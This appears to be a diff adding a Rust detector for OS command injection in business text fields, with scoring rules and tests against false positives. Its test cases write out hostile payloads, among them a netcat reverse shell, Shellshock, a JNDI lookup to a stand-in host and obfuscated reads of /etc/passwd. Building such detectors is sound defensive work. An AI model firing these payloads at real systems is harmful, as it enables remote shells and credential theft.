@@ -1,0 +1,827 @@
+//! OS command injection: shell syntax that chains, substitutes or redirects commands, followed by
+//! a command that exists.
+//!
+//! Ampersands and semicolons are ordinary punctuation in business text ("AT&T", "R&D", "Q&A",
+//! "call before 9am; prefers email"), so a separator alone proves nothing. The rules want a
+//! separator (or substitution) *followed by a real command* — and for commands that are also
+//! English words (`cat`, `type`, `find`, `more`) an argument that looks like shell (`-x`, `/path`,
+//! `$VAR`, a pipe). A deobfuscated view undoes the tricks shells ignore (`c'a't`, `c\at`,
+//! `cat$u`, `${IFS}`).
+
+use super::{CRITICAL, ERROR, Hits, Input, WARNING, is_word_byte};
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Strength {
+    /// Never an English word or a name (`whoami`, `ifconfig`): enough after any separator.
+    VeryStrong,
+    /// Not an English word: its presence after a separator is enough.
+    Strong,
+    /// Also an English word: needs shell-looking arguments.
+    Ambiguous,
+}
+
+fn command(word: &str) -> Option<Strength> {
+    let w = word.strip_suffix(".exe").unwrap_or(word);
+    if let Some(k) = command_exact(w) {
+        return Some(k);
+    }
+    // Versioned interpreters and tools: python3.10, php7, gcc10.1, base64, c89.
+    let base = w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let versioned = matches!(
+        base,
+        "python"
+            | "php"
+            | "perl"
+            | "ruby"
+            | "lua"
+            | "node"
+            | "gcc"
+            | "base"
+            | "java"
+            | "pip"
+            | "tclsh"
+            | "c"
+            | "sqlite"
+            | "bzip"
+            | "7z"
+    );
+    (base.len() < w.len() && versioned).then_some(Strength::Strong)
+}
+
+fn command_exact(w: &str) -> Option<Strength> {
+    use Strength::{Ambiguous, Strong, VeryStrong};
+    Some(match w {
+        "whoami" | "uname" | "ifconfig" | "ipconfig" | "netstat" | "nslookup" | "systeminfo"
+        | "tasklist" | "taskkill" | "printenv" | "busybox" | "lastlog" | "xxd" | "mkfifo"
+        | "certutil" | "mshta" | "bitsadmin" | "rundll32" | "regsvr32" | "wmic" | "useradd"
+        | "usermod" | "killall" | "crontab" | "visudo" | "cscli" | "aptitude" | "apt-get"
+        | "zstdcat" | "bsdtar" | "cpulimit" | "getent" | "sysctl" | "iptables" | "jrunscript"
+        | "osascript" | "vssadmin" | "schtasks" | "nltest" | "dsquery" | "forfiles"
+        | "powershell" | "pwsh" | "ncat" | "netcat" | "socat" | "wget" | "curl" | "nmap"
+        | "tcpdump" | "tshark" | "pkexec" | "proxychains" | "hexdump" | "lsof" | "strace"
+        | "ltrace" | "nohup" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "unxz" | "dmesg"
+        | "journalctl" | "systemctl" | "chattr" | "setfacl" | "msiexec" | "cmstp" | "ansible"
+        | "ansible-config" | "ansible-galaxy" | "ansible-console" | "ansible-doc"
+        | "ansible-inventory" | "ansible-pull" | "ansible-vault" | "ansible-playbook" => VeryStrong,
+        "nc" | "bash" | "sh" | "zsh" | "ksh" | "csh" | "tcsh" | "dash" | "cmd" | "regedit"
+        | "rundll" | "regsvr" | "wscript" | "cscript" | "php" | "lua" | "telnet" | "tftp"
+        | "chmod" | "chown" | "chgrp" | "rm" | "hostname" | "gcc" | "irb" | "sudo" | "awk"
+        | "gawk" | "xargs" | "grep" | "egrep" | "htop" | "dpkg" | "ls" | "ps" | "pwd" | "env"
+        | "tac" | "passwd" | "uptime" | "mknod" | "openssl" | "scp" | "ssh" | "sftp" | "rsync"
+        | "nodejs" | "reg" | "net" | "ipconfig/all" | "id" | "cat" | "c89" | "c99" | "gdb"
+        | "tclsh" | "doas" | "umount" | "fdisk" | "lsblk" | "sqlite" | "mysql" | "psql" | "pip"
+        | "npm" | "unzip" | "gzip" | "bzip" | "xz" | "7z" | "traceroute" | "mtr" | "arp"
+        | "lastb" | "renice" | "chroot" | "unshare" | "nsenter" | "setsid" | "stdbuf" | "od" => {
+            Strong
+        }
+        "nice" | "host" | "route" | "watch" | "timeout" | "service" | "mount" | "expect"
+        | "wish" | "finger" | "ip" | "ss" | "w" | "node" | "java" | "gem" | "zip" | "tar"
+        | "dig" | "strings" | "ruby" | "perl" | "python" | "rpm" | "yum" | "jq" | "ld" | "echo"
+        | "sleep" | "ping" | "kill" | "touch" | "cp" | "mv" | "ln" | "dd" | "su" | "nl" | "set"
+        | "time" | "type" | "dir" | "at" | "find" | "which" | "whereis" | "locate" | "head"
+        | "tail" | "more" | "less" | "fold" | "column" | "bridge" | "comm" | "perf" | "flock"
+        | "date" | "who" | "last" | "top" | "free" | "file" | "print" | "start" | "call"
+        | "copy" | "move" | "del" | "ren" | "rename" | "exit" | "make" | "open" | "test"
+        | "sort" | "cut" | "join" | "wall" | "man" | "read" | "write" | "eval" | "exec"
+        | "source" | "export" | "alias" | "history" | "uniq" | "rev" | "tee" | "wc" | "diff"
+        | "paste" | "split" | "shred" | "mkdir" | "rmdir" | "printf" | "chef" | "sed" | "vi"
+        | "vim" | "nano" | "ed" | "ex" | "view" | "more.com" | "pushd" | "popd" | "cd" | "ver"
+        | "vol" | "tree" | "attrib" | "xcopy" | "robocopy" => Ambiguous,
+        _ => return None,
+    })
+}
+
+/// Whether the text after a command word looks like shell arguments.
+/// With `strict` (a value that merely starts with a command name, like "Python; SQL"), list
+/// punctuation after the word does not count.
+fn shell_args(after: &[u8], strict: bool) -> bool {
+    let mut k = 0;
+    while k < after.len() && matches!(after[k], b' ' | b'\t') {
+        k += 1;
+    }
+    let spaced = k > 0;
+    match after.get(k) {
+        None => false,
+        Some(c) => {
+            matches!(c, b'$' | b'<' | b'>' | b'`' | b'{' | b'\\' | b'%')
+                || (!strict && matches!(c, b'|'))
+                || (spaced && matches!(c, b'-' | b'/' | b'~' | b'.' | b'*' | b'\'' | b'"'))
+        }
+    }
+}
+
+/// Whether the text after a command word ends the value or the command (`;env`, `| id`).
+fn ends_command(after: &[u8]) -> bool {
+    let rest = after
+        .iter()
+        .position(|c| !matches!(c, b' ' | b'\t' | b'\r' | b'\n'))
+        .map(|p| &after[p..]);
+    match rest {
+        None => true,
+        Some(r) => matches!(r[0], b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"' | b'#'),
+    }
+}
+
+/// Runs the command injection rules on one value.
+pub(crate) fn detect(input: &Input<'_>, hits: &mut Hits) {
+    let s = input.text;
+    scan(s, hits);
+    // Quoting tricks only matter around shell syntax; "O'Brien" alone needs no second pass.
+    let quoting = s
+        .bytes()
+        .any(|b| matches!(b, b'\\' | b'\'' | b'"' | b'^' | b'$' | b'+'));
+    let shellish = s.bytes().any(|b| {
+        matches!(
+            b,
+            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/' | b'\\' | b'<' | b'>' | b'{'
+        )
+    });
+    let glued_quotes = s.contains("''") || s.contains("\"\"") || s.starts_with(['\'', '"']);
+    if quoting && (shellish || glued_quotes) {
+        let d = deobfuscate(s);
+        if d != s {
+            scan(&d, hits);
+        }
+    }
+}
+
+/// Undoes shell quoting tricks: `c'a't`, `c\at`, `w"h"oami`, `c^md`, `cat$u`, `c$@at`,
+/// `${IFS}` / `$IFS` as a space; `+` (URL-encoded space in headers) as a space.
+fn deobfuscate(s: &str) -> String {
+    let s = s.replace("${ifs}", " ").replace("$ifs", " ");
+    let b = s.as_bytes();
+    let mut out = String::with_capacity(s.len());
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        match c {
+            b'\\' | b'\'' | b'"' | b'^' => i += 1,
+            b'+' => {
+                out.push(' ');
+                i += 1;
+            }
+            b'$' => {
+                let next = b.get(i + 1).copied();
+                let after = b.get(i + 2).copied();
+                match next {
+                    Some(b'@' | b'*' | b'?' | b'!' | b'#' | b'_' | b'-' | b'0'..=b'9') => i += 2,
+                    // `cat$u /etc$u/passwd`: a one-letter (unset) variable glued to a word.
+                    Some(n)
+                        if n.is_ascii_lowercase()
+                            && i > 0
+                            && b[i - 1].is_ascii_alphanumeric()
+                            && after.is_none_or(|a| !a.is_ascii_alphanumeric()) =>
+                    {
+                        i += 2;
+                    }
+                    _ => {
+                        out.push('$');
+                        i += 1;
+                    }
+                }
+            }
+            _ => {
+                // Copy one UTF-8 character.
+                let len = match c {
+                    0xF0..=0xFF => 4,
+                    0xE0..=0xEF => 3,
+                    0xC0..=0xDF => 2,
+                    _ => 1,
+                };
+                out.push_str(s.get(i..i + len).unwrap_or(""));
+                i += len;
+            }
+        }
+    }
+    out
+}
+
+/// Separators that start a new command, with how strongly they imply a shell.
+fn separator_at(b: &[u8], i: usize) -> Option<(usize, bool)> {
+    // Returns (length, strong). `&` alone is weak: "AT&T".
+    match b[i] {
+        b';' | b'|' | b'`' => Some((if b.get(i + 1) == Some(&b'|') { 2 } else { 1 }, true)),
+        b'&' if b.get(i + 1) == Some(&b'&') => Some((2, true)),
+        b'&' => Some((1, false)),
+        b'\n' | b'\r' => Some((1, false)),
+        b'$' if b.get(i + 1) == Some(&b'(') => Some((2, true)),
+        b'<' | b'>' if b.get(i + 1) == Some(&b'(') => Some((2, true)),
+        _ => None,
+    }
+}
+
+fn scan(s: &str, hits: &mut Hits) {
+    let b = s.as_bytes();
+    // Commands after separators (and at the very start of the value).
+    let mut i = 0;
+    let mut first = true;
+    while i <= b.len() {
+        let (cmd_start, sep_strong, at_start) = if first {
+            first = false;
+            (0, false, true)
+        } else {
+            match (i < b.len()).then(|| separator_at(b, i)).flatten() {
+                Some((len, strong)) => {
+                    let start = i + len;
+                    i = start;
+                    (start, strong, false)
+                }
+                None => {
+                    i += 1;
+                    continue;
+                }
+            }
+        };
+        check_command(b, cmd_start, sep_strong, at_start, hits);
+        if at_start {
+            continue;
+        }
+    }
+
+    // The constructs below each need a trigger byte; skip them all for plain text.
+    let has = |c: u8| b.contains(&c);
+    if has(b'$') {
+        shell_expansions(s, b, hits);
+    }
+    // `\ls`: a backslash in front of a command bypasses aliases.
+    if let Some(rest) = s.strip_prefix('\\')
+        && command(leading_word(rest.as_bytes())).is_some()
+    {
+        hits.add(1, "cmd.command_line", CRITICAL);
+    }
+    // Shellshock function definition.
+    if has(b'(')
+        && let Some(p) = s.find("()")
+        && s[p + 2..].trim_start().starts_with('{')
+    {
+        hits.add(1, "cmd.shellshock", CRITICAL);
+    }
+    if has(b'<') || has(b'>') {
+        // Here-strings.
+        if let Some(p) = s.find("<<<")
+            && p > 0
+        {
+            hits.add(1, "cmd.here_string", CRITICAL);
+        }
+        // Process substitution `<(cmd)` / `>(cmd)` at the start of a value.
+        if (s.starts_with("<(") || s.starts_with(">(")) && s.contains(')') {
+            hits.add(1, "cmd.substitution", CRITICAL);
+        }
+    }
+    if s.contains("bin/") {
+        binary_paths(s, b, hits);
+    }
+    if s.contains("/dev/") && (s.contains("/dev/tcp/") || s.contains("/dev/udp/")) {
+        hits.add(1, "cmd.dev_tcp", CRITICAL);
+    }
+    globbed_path(b, hits);
+    if has(b'{') {
+        brace_expansion(b, hits);
+    }
+    if has(b'%') || s.contains("cmd") || s.contains("powershell") || s.contains("if ") {
+        windows(s, hits);
+    }
+    if has(b'\n') {
+        mail_protocol(s, hits);
+    }
+}
+
+/// `$(cmd)`, `${…}` (including Log4Shell-style lookups), `$SHELL`, `$((…))`, `$[…]`.
+fn shell_expansions(s: &str, b: &[u8], hits: &mut Hits) {
+    if let Some(p) = s.find("$(") {
+        let inner = &b[p + 2..];
+        let word = leading_word(inner);
+        if command(word).is_some() || inner.first() == Some(&b'/') {
+            hits.add(1, "cmd.substitution", CRITICAL);
+        } else if inner.contains(&b')') {
+            hits.add(2, "cmd.substitution", CRITICAL);
+        }
+    }
+    if s.contains("${") {
+        if [
+            "${jndi:", "${env:", "${lower:", "${upper:", "${::-", "${:", "${sys:", "${java:",
+            "${date:",
+        ]
+        .iter()
+        .any(|p| s.contains(p))
+        {
+            hits.add(1, "cmd.expression_injection", CRITICAL);
+        } else if let Some(p) = s.find("${") {
+            let inner = &b[p + 2..];
+            let closes = inner.iter().take(64).any(|&c| c == b'}');
+            let word = leading_word(inner);
+            if closes
+                && (command(word).is_some()
+                    || matches!(word, "path" | "home" | "shell" | "ifs" | "pwd" | "user"))
+            {
+                hits.add(1, "cmd.variable_expansion", CRITICAL);
+            } else if closes
+                && inner
+                    .iter()
+                    .take_while(|&&c| c != b'}')
+                    .any(|&c| matches!(c, b'#' | b'%' | b':' | b'/' | b'{'))
+            {
+                // `${x#{}}`, `${path:0:1}`: parameter-expansion operators.
+                hits.add(1, "cmd.variable_expansion", CRITICAL);
+            } else if closes {
+                hits.add(2, "cmd.variable_expansion", CRITICAL);
+            }
+        }
+    }
+    if s.contains("$shell") || s.contains("$path") || s.contains("$home") {
+        hits.add(2, "cmd.variable_expansion", ERROR);
+    }
+    // Bash arithmetic expansion: `$((…))`, `$[…]`.
+    if s.contains("$((") || s.contains("$[") {
+        hits.add(1, "cmd.arithmetic_expansion", CRITICAL);
+    }
+}
+
+/// `/bin/sh`, `/usr/bin/perl`, `bin/ansible`.
+fn binary_paths(s: &str, b: &[u8], hits: &mut Hits) {
+    // Interpreter and system binary paths.
+    for dir in [
+        "/bin/",
+        "/usr/bin/",
+        "/sbin/",
+        "/usr/sbin/",
+        "/usr/local/bin/",
+        "/usr/local/sbin/",
+    ] {
+        if let Some(p) = s.find(dir) {
+            let word = leading_word(&b[p + dir.len()..]);
+            if !word.is_empty() {
+                hits.add(1, "cmd.binary_path", CRITICAL);
+            }
+        }
+    }
+    if let Some(p) = s.find("bin/")
+        && command(leading_word(&b[p + 4..])) == Some(Strength::Strong)
+    {
+        hits.add(2, "cmd.binary_path", CRITICAL);
+    }
+}
+
+/// The command word at `b[0..]` (letters, digits, `_`, `-`, `.`), possibly after a path prefix.
+fn leading_word(b: &[u8]) -> &str {
+    let end = b
+        .iter()
+        .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')))
+        .unwrap_or(b.len());
+    std::str::from_utf8(&b[..end]).unwrap_or("")
+}
+
+fn check_command(b: &[u8], mut i: usize, sep_strong: bool, at_start: bool, hits: &mut Hits) {
+    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\r' | b'\n' | b'(' | b'{' | b'!') {
+        i += 1;
+    }
+    // A leading path: /bin/cat, /usr/bin/env, ./run, c:\windows\system32\cmd
+    let mut path = false;
+    let mut j = i;
+    while j < b.len()
+        && !matches!(
+            b[j],
+            b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>' | b')' | b'\'' | b'"'
+        )
+    {
+        j += 1;
+    }
+    let token = &b[i..j];
+    // Only filesystem paths count (`/usr/bin/id`, `./x`, `~/x`), not URLs (`https://at&t…`).
+    let fs_path = matches!(token.first(), Some(b'/' | b'.' | b'~'))
+        && !token.windows(2).any(|w| w == b"//")
+        && !token.contains(&b':');
+    let word_start = match token.iter().rposition(|&c| c == b'/') {
+        Some(p) if fs_path && p + 1 < token.len() => {
+            path = true;
+            i + p + 1
+        }
+        _ => i,
+    };
+    let word = leading_word(&b[word_start..]);
+    if word.is_empty() {
+        return;
+    }
+    let Some(strength) = command(word) else {
+        return;
+    };
+    let after = &b[word_start + word.len()..];
+    // "python3" and "cmd.exe" are the same word as far as the next character goes.
+    let glued = after.first().is_some_and(|&c| is_word_byte(c));
+    if glued {
+        return;
+    }
+    // Wrappers that run their argument as a command: `time sh -c …`, `nohup id`.
+    if matches!(
+        word,
+        "time"
+            | "strace"
+            | "ltrace"
+            | "nohup"
+            | "nice"
+            | "timeout"
+            | "env"
+            | "sudo"
+            | "doas"
+            | "exec"
+            | "xargs"
+            | "busybox"
+            | "command"
+            | "builtin"
+            | "stdbuf"
+            | "setsid"
+            | "chroot"
+            | "cpulimit"
+            | "unbuffer"
+    ) {
+        let rest_start = word_start + word.len();
+        let mut k = rest_start;
+        while k < b.len() && matches!(b[k], b' ' | b'\t') {
+            k += 1;
+        }
+        // Skip wrapper options (`timeout 5`, `nice -n 5`, `cpulimit -l 100 -f`).
+        while k < b.len() && (b[k] == b'-' || b[k].is_ascii_digit()) {
+            while k < b.len() && !matches!(b[k], b' ' | b'\t') {
+                k += 1;
+            }
+            while k < b.len() && matches!(b[k], b' ' | b'\t') {
+                k += 1;
+            }
+        }
+        let inner = leading_word(&b[k..]);
+        if k > rest_start
+            && matches!(
+                command(inner),
+                Some(Strength::VeryStrong | Strength::Strong)
+            )
+            && !b.get(k + inner.len()).is_some_and(|&c| is_word_byte(c))
+        {
+            hits.add(1, "cmd.command_line", CRITICAL);
+            return;
+        }
+    }
+    let args = shell_args(after, at_start);
+    let ends = ends_command(after);
+    // `cd /;cd etc;column passwd`: a command whose argument is a credentials file.
+    let arg_word = {
+        let mut k = 0;
+        while k < after.len() && matches!(after[k], b' ' | b'\t') {
+            k += 1;
+        }
+        if k > 0 { leading_word(&after[k..]) } else { "" }
+    };
+    if matches!(
+        arg_word,
+        "passwd" | "shadow" | "master.passwd" | "id_rsa" | "sudoers"
+    ) {
+        hits.add(1, "cmd.command_line", CRITICAL);
+        return;
+    }
+    if strength == Strength::VeryStrong {
+        // Distinctive commands: anything that looks like use, anywhere.
+        // At the start of a value, `curl/8.5` (a user agent) is not a command line; `whoami;`
+        // and `curl -s x` are.
+        let first = after.iter().position(|c| !matches!(c, b' ' | b'\t'));
+        let chained = first.is_some_and(|p| matches!(after[p], b';' | b'|' | b'&' | b'`'));
+        // `ansible all -m ping`, `cscli alerts list`; but "Curl Inc" / "Wget Ltd" are names.
+        let continues = first.is_some_and(|p| p > 0) && !matches!(word, "curl" | "wget");
+        if !at_start || shell_args(after, false) || path || chained || continues {
+            hits.add(1, "cmd.chained_command", CRITICAL);
+        } else if ends {
+            hits.add(2, "cmd.command_line", CRITICAL);
+        }
+        return;
+    }
+    if at_start {
+        // No separator: the whole value is a command line (`cat /etc/passwd`, `/bin/ab`).
+        match strength {
+            Strength::Strong if args || path => hits.add(1, "cmd.command_line", CRITICAL),
+            Strength::Strong if ends => hits.add(3, "cmd.command_line", WARNING),
+            Strength::Strong => {
+                if after.iter().take(3).any(|c| *c == b' ') && word.len() > 3 {
+                    hits.add(2, "cmd.command_line", ERROR);
+                }
+            }
+            Strength::Ambiguous if path => hits.add(1, "cmd.command_line", CRITICAL),
+            // `cd /;cd etc`: a command line that goes on to chain more commands.
+            Strength::Ambiguous if args && b.iter().any(|&c| c == b';' || c == b'|') => {
+                hits.add(1, "cmd.command_line", CRITICAL);
+            }
+            Strength::Ambiguous if args => hits.add(2, "cmd.command_line", CRITICAL),
+            Strength::Ambiguous => {}
+            Strength::VeryStrong => {}
+        }
+        return;
+    }
+    match strength {
+        Strength::Strong if sep_strong && (args || ends || path) => {
+            hits.add(1, "cmd.chained_command", CRITICAL);
+        }
+        Strength::Strong if args || path => hits.add(1, "cmd.chained_command", CRITICAL),
+        Strength::Strong if sep_strong => hits.add(2, "cmd.chained_command", CRITICAL),
+        Strength::Strong if ends => hits.add(2, "cmd.chained_command", ERROR),
+        Strength::Ambiguous if args || path => {
+            if sep_strong || path {
+                hits.add(1, "cmd.chained_command", CRITICAL);
+            } else {
+                hits.add(2, "cmd.chained_command", CRITICAL);
+            }
+        }
+        // `;who`, `| more`: plausible, but "Python; SQL; Java & Ruby" has the same shape.
+        Strength::Ambiguous if sep_strong && ends => {
+            hits.add(2, "cmd.chained_command", ERROR);
+            hits.add(3, "cmd.chained_command", CRITICAL);
+        }
+        _ => {}
+    }
+}
+
+/// Bash glob evasion of file names: `/e??/p?sswd`, `/???/??t`, `/et*/passwd`, `/etc/pa[s]swd`.
+fn globbed_path(b: &[u8], hits: &mut Hits) {
+    if !b.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) {
+        return;
+    }
+    let seg_ok = |c: u8| {
+        c.is_ascii_alphanumeric()
+            || matches!(c, b'?' | b'*' | b'[' | b']' | b'!' | b'.' | b'-' | b'_')
+    };
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] != b'/' {
+            i += 1;
+            continue;
+        }
+        // Walk consecutive /segment/segment…
+        let mut j = i;
+        let mut segments = 0;
+        let mut globbed = false;
+        while j < b.len() && b[j] == b'/' {
+            let start = j + 1;
+            let mut k = start;
+            while k < b.len() && seg_ok(b[k]) {
+                k += 1;
+            }
+            if k == start {
+                break;
+            }
+            let seg = &b[start..k];
+            if seg.iter().any(|&c| matches!(c, b'?' | b'*' | b'['))
+                && seg.iter().any(|&c| c.is_ascii_alphabetic() || c == b'?')
+            {
+                globbed = true;
+            }
+            segments += 1;
+            j = k;
+        }
+        let ends_clean = j >= b.len()
+            || matches!(
+                b[j],
+                b' ' | b'+' | b';' | b'|' | b'&' | b'\'' | b'"' | b'`' | b')' | b'<' | b'>'
+            );
+        if globbed && segments >= 2 && ends_clean {
+            hits.add(1, "cmd.glob_path", CRITICAL);
+            return;
+        }
+        i = j.max(i + 1);
+    }
+}
+
+/// Brace expansion used to avoid spaces: `{cat,/etc/passwd}`, `{,echo,#test}`.
+fn brace_expansion(b: &[u8], hits: &mut Hits) {
+    let mut i = 0;
+    while let Some(p) = b[i..].iter().position(|&c| c == b'{') {
+        let at = i + p;
+        let Some(close) = b[at..].iter().take(200).position(|&c| c == b'}') else {
+            return;
+        };
+        let inner = &b[at + 1..at + close];
+        let parts: Vec<&[u8]> = inner.split(|&c| c == b',').collect();
+        if parts.len() >= 2 {
+            let cmdish = parts.iter().any(|part| {
+                let w = part.strip_prefix(b"$").unwrap_or(part);
+                let w = w.strip_prefix(b"'").unwrap_or(w);
+                let word = leading_word(w);
+                command(word).is_some() || w.first() == Some(&b'/')
+            });
+            let no_quotes_kv = !inner.iter().any(|&c| c == b':' || c == b'"');
+            if cmdish && no_quotes_kv {
+                hits.add(1, "cmd.brace_expansion", CRITICAL);
+                return;
+            }
+        }
+        i = at + 1;
+    }
+}
+
+/// Windows command interpreter constructs.
+fn windows(s: &str, hits: &mut Hits) {
+    for v in [
+        "%comspec%",
+        "%systemroot%",
+        "%windir%",
+        "%systemdrive%",
+        "%programfiles%",
+        "%temp%",
+        "%appdata%",
+    ] {
+        if s.contains(v) {
+            hits.add(1, "cmd.windows", CRITICAL);
+        }
+    }
+    if let Some(p) = super::find_word(s, "cmd", 0) {
+        let rest = s[p + 3..].trim_start_matches(".exe").trim_start();
+        if rest.starts_with("/c") || rest.starts_with("/k") || rest.starts_with("/r") {
+            hits.add(1, "cmd.windows", CRITICAL);
+        }
+    }
+    if let Some(p) = super::find_word(s, "powershell", 0) {
+        let rest = s[p + 10..].trim_start_matches(".exe").trim_start();
+        if rest.starts_with('-') || rest.starts_with('/') || rest.starts_with('"') {
+            hits.add(1, "cmd.windows", CRITICAL);
+        }
+    }
+    batch_if(s, hits);
+    // for [/d|/r x|/l|/f "opts"] %var in (…) do
+    let mut from = 0;
+    while let Some(p) = super::find_word(s, "for", from) {
+        from = p + 3;
+        let rest = &s[p + 3..];
+        if let Some(pct) = rest.find('%')
+            && rest[..pct].len() < 80
+            && let Some(inp) = rest[pct..].find(" in")
+            && rest[pct..pct + inp].trim_start_matches('%').chars().count() <= 12
+            && !rest[pct..pct + inp].contains(' ')
+            && rest[pct + inp + 3..].trim_start().starts_with('(')
+            && rest[pct..].contains(')')
+            && rest[pct..]
+                .split(')')
+                .skip(1)
+                .any(|tail| tail.trim_start().starts_with("do"))
+        {
+            hits.add(1, "cmd.windows", CRITICAL);
+            break;
+        }
+    }
+}
+
+/// Windows batch conditionals: `if [/i] [not] exist|defined|errorlevel …`, `if a==b cmd`,
+/// `if %x% equ 2 …`.
+fn batch_if(s: &str, hits: &mut Hits) {
+    let mut from = 0;
+    while let Some(p) = super::find_word(s, "if", from) {
+        from = p + 2;
+        let rest = s[p + 2..].trim_start();
+        let rest = rest.strip_prefix("/i").map_or(rest, str::trim_start);
+        let rest = rest.strip_prefix("not").map_or(rest, str::trim_start);
+        let mut words = rest.split_whitespace();
+        let first = words.next().unwrap_or("");
+        if matches!(first, "exist" | "defined" | "errorlevel") {
+            // The condition's operand, then the command it runs.
+            let _operand = words.next();
+            let cmd = words.next().unwrap_or("");
+            let cmd_word = cmd.trim_start_matches(['(', '@']);
+            if command(cmd_word).is_some() || matches!(cmd_word, "goto" | "set" | "cmd" | "echo") {
+                hits.add(1, "cmd.windows", CRITICAL);
+            } else {
+                hits.add(2, "cmd.windows", CRITICAL);
+            }
+            return;
+        }
+        let head: String = rest.chars().take(120).collect();
+        let cmp = head.contains("==")
+            || head
+                .split_whitespace()
+                .any(|w| matches!(w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"));
+        if cmp && (head.contains('%') || head.contains("==")) {
+            hits.add(1, "cmd.windows", CRITICAL);
+            return;
+        }
+    }
+}
+
+/// SMTP / IMAP command injection through CR/LF in a field (`\r\nRCPT TO:<x>`).
+fn mail_protocol(s: &str, hits: &mut Hits) {
+    if !s.contains('\n') {
+        return;
+    }
+    for line in s.split('\n').skip(1) {
+        let l = line.trim_start_matches('\r').trim_start();
+        let smtp = [
+            "mail from:",
+            "rcpt to:",
+            "ehlo ",
+            "helo ",
+            "auth login",
+            "auth plain",
+            "starttls",
+        ]
+        .iter()
+        .any(|c| l.starts_with(c));
+        if smtp {
+            hits.add(1, "cmd.mail_injection", CRITICAL);
+            return;
+        }
+        // IMAP: `<tag> <command>`, tags are short alphanumerics like a001.
+        let mut words = l.split_whitespace();
+        if let (Some(tag), Some(cmd)) = (words.next(), words.next())
+            && tag.len() <= 6
+            && tag.bytes().all(|c| c.is_ascii_alphanumeric())
+            && tag.bytes().any(|c| c.is_ascii_digit())
+            && matches!(
+                cmd,
+                "select"
+                    | "examine"
+                    | "login"
+                    | "authenticate"
+                    | "append"
+                    | "store"
+                    | "copy"
+                    | "search"
+                    | "status"
+                    | "uid"
+                    | "list"
+                    | "lsub"
+                    | "fetch"
+                    | "create"
+                    | "delete"
+                    | "rename"
+                    | "subscribe"
+                    | "logout"
+                    | "capability"
+                    | "expunge"
+                    | "move"
+                    | "idle"
+            )
+        {
+            hits.add(1, "cmd.mail_injection", CRITICAL);
+            return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::extract::FieldKind;
+
+    fn score(s: &str, pl: u8) -> u32 {
+        let mut hits = Hits::new(pl);
+        let n = crate::normalize::normalize(s, 3);
+        detect(
+            &Input {
+                text: &n.text,
+                had_null: n.had_null,
+                kind: FieldKind::Value,
+            },
+            &mut hits,
+        );
+        hits.list.iter().map(|h| h.score).sum()
+    }
+
+    #[test]
+    fn attacks() {
+        for a in [
+            ";cat /etc/passwd",
+            "| id",
+            "&& whoami",
+            "$(whoami)",
+            "`uname -a`",
+            "127.0.0.1; ls -la",
+            "x|nc -e /bin/sh 10.0.0.1 4444",
+            "() { :; }; /bin/bash -c id",
+            "c'a't /e??/p?sswd",
+            ";w'h'o'am'i",
+            "cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "cmd.exe /c dir",
+            "\r\nRCPT TO:<x@y.z>",
+            "${jndi:ldap://evil/x}",
+        ] {
+            assert!(score(a, 1) >= 5, "missed {a:?}");
+        }
+    }
+
+    #[test]
+    fn business_text() {
+        for b in [
+            "AT&T",
+            "Head of R&D",
+            "Q&A",
+            "Procter & Gamble",
+            "Smith & Sons",
+            "Do not call before 9am; prefers email",
+            "please update the order; delete the old one",
+            "Competitor: ZoomInfo; pain = data quality (~30% bounces)",
+            "Ran ../setup.sh last week, still failing on their side",
+            "Uses MySQL & PostgreSQL; evaluating alternatives",
+            "Met at SaaStr; follow up re: pricing -- wants 10% off?",
+            "Time & Attendance; more later",
+            "Python developer",
+            "Hello {{first_name}} & team",
+            "Budget >= $50k; timeline < 3 months",
+            "Cats & Dogs | Pet supplies",
+        ] {
+            assert!(score(b, 1) < 5, "false positive {b:?}: {}", score(b, 1));
+        }
+    }
+}
